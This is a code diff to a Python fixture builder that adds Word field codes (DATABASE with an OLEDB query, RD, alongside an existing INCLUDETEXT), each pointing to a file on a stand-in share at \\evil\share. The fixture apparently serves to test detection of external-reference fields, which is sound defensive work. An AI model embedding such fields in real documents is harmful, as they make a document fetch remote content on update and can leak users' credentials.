@@ -503,7 +503,16 @@ def docx_include_fields() -> bytes:
            + "<w:p>" + _fld("begin") + _instr(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx" ')
            + _fld("separate") + "<w:r><w:t>取り込まれた文</w:t></w:r>" + _fld("end") + "</w:p>"
            + "<w:p>" + _fld("begin") + _instr(" PAGE ") + _fld("separate")
-           + "<w:r><w:t>1</w:t></w:r>" + _fld("end") + "</w:p>")
+           + "<w:r><w:t>1</w:t></w:r>" + _fld("end") + "</w:p>"
+           # a mail-merge database query (an ODBC source on a share) and a referenced
+           # document for the index: both read files outside the document on update
+           + "<w:p>" + _fld("begin")
+           + _instr(' DATABASE \\d "\\\\evil\\share\\名簿.mdb" \\c '
+                    '"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil\\share\\名簿.mdb" '
+                    '\\s "SELECT * FROM 名簿" ')
+           + _fld("separate") + "<w:r><w:t>山田太郎</w:t></w:r>" + _fld("end") + "</w:p>"
+           + "<w:p>" + _fld("begin") + _instr(' RD "\\\\evil\\share\\chapter2.docx" \\f ')
+           + _fld("separate") + _fld("end") + "<w:r><w:t>索引の参照</w:t></w:r></w:p>")
     return p.build()
 
 
